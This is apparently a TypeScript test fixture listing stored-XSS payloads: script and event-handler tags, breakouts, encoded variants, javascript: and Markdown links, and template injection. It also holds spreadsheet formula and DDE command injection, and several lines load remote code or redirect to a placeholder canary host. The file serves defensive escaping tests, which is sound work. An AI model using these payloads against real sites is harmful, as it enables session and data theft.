/**
 * Texts that become scripts, elements, links, styles or formulas where text is not escaped (stored XSS). A script of them
 * calls `xss()`, an element has `canary` in its id, and an address leads to the host CANARY.
 */

export const CANARY = 'canary.invalid';

export const PAYLOADS: readonly string[] = [
  // elements and their handlers
  '<script id=canary>xss()</script>',
  `<script id=canary src=//${CANARY}/x.js></script>`,
  '<ScRiPt id=canary>xss()</sCrIpT >',
  '<scr<script>ipt id=canary>xss()</scr</script>ipt>',
  '<img id=canary src=x onerror=xss()>',
  `<img id=canary src=//${CANARY}/i.png>`,
  '<img id=canary src=x onerror=&#120;ss()>',
  '<img/id=canary/src=x/onerror=xss()//',
  '<svg id=canary onload=xss()>',
  '<svg><g id=canary onload="xss()"></g></svg>',
  '<svg><script id=canary>xss()</script></svg>',
  '<svg><animate id=canary onbegin=xss() attributeName=x dur=1s>',
  '<svg><set id=canary attributeName=onload to=xss()>',
  '<svg><a id=canary xlink:href=javascript:xss()><text>x</text></a>',
  '<svg><foreignObject><b id=canary>x</b></foreignObject></svg>',
  `<svg><use id=canary href=//${CANARY}/u.svg#x>`,
  '<math><mi id=canary xlink:href=javascript:xss()>x</mi></math>',
  '<math><mtext><table><mglyph><style><img id=canary src=x onerror=xss()>',
  '<body id=canary onload=xss()>',
  '<input id=canary autofocus onfocus=xss()>',
  '<details id=canary open ontoggle=xss()>',
  '<video id=canary><source onerror=xss()></video>',
  '<audio id=canary src=x onerror=xss()>',
  '<marquee id=canary onstart=xss()>',
  '<iframe id=canary src=javascript:parent.xss()></iframe>',
  '<iframe id=canary srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object id=canary data="javascript:xss()"></object>',
  `<embed id=canary src=//${CANARY}/e>`,
  `<base id=canary href=//${CANARY}/>`,
  `<meta id=canary http-equiv=refresh content="0;url=//${CANARY}/">`,
  `<link id=canary rel=stylesheet href=//${CANARY}/s.css>`,
  `<form id=canary action=//${CANARY}/><button>x</button></form>`,
  '<template id=canary><img src=x onerror=xss()></template>',
  '<noscript><p id=canary title="</noscript><img src=x onerror=xss()>">',
  // out of attributes, comments, scripts and styles
  '"><img id=canary src=x onerror=xss()>',
  "'><img id=canary src=x onerror=xss()>",
  '" id=canary onmouseover=xss() autofocus onfocus=xss() x="',
  "' onfocus='xss()' autofocus id='canary",
  '--><img id=canary src=x onerror=xss()><!--',
  '</title><img id=canary src=x onerror=xss()>',
  '</textarea><img id=canary src=x onerror=xss()>',
  '</script><script id=canary>xss()</script>',
  '</style><img id=canary src=x onerror=xss()>',
  `<style id=canary>*{background:url(//${CANARY}/c.png)}</style>`,
  `x;background:url(//${CANARY}/b.png)`,
  // encoded and unusual characters
  '&lt;img id=canary src=x onerror=xss()&gt;',
  '%3Cimg%20id=canary%20src=x%20onerror=xss()%3E',
  '\\u003cimg id=canary src=x onerror=xss()\\u003e',
  '\uFF1Cimg id=canary src=x onerror=xss()\uFF1E',
  '<img\u3000id=canary\u2028src=x onerror=xss()>',
  // links and Markdown
  'javascript:xss()',
  `[a](javascript:xss()) <javascript:xss()>`,
  '[a](java&#115;cript:xss()) [b](JaVaScRiPt:xss())',
  '[a](data:text/html,<script>parent.xss()</script>)',
  `![a](https://${CANARY}/m.png) ![b](x"onerror="xss())`,
  `[a]: javascript:xss()\u00a0[a][a] ~~<b id=canary>~~`,
  // templates, Discord, spreadsheets
  '{{constructor.constructor("xss()")()}}${xss()}#{xss()}<%= xss() %>',
  '@everyone <@&1> <#1> </x:1> <t:0:R> discord.gg/canary',
  `=HYPERLINK("//${CANARY}/","x")`,
  "+cmd|' /C calc'!A0",
];

/** Text of single code points that every free text refuses, because they hide or turn around what others read. */
export const REFUSED_TEXTS: readonly string[] = ['a\0b', 'a\u202Eb', 'a\u2066b', 'a\u001Bb', 'a\uD800b'];

/** As many payloads as fit, from this one on, in one line; at least the start of one. @param max in code points */
export function payloadText(max: number, from: number): string {
  let text = '';
  for (let index = 0; index < PAYLOADS.length; index += 1) {
    const next = PAYLOADS[(from + index) % PAYLOADS.length] ?? '';
    if (text !== '' && text.length + 1 + next.length > max) continue;
    text = text === '' ? next.slice(0, max) : `${text} ${next}`;
  }
  return text.trim();
}
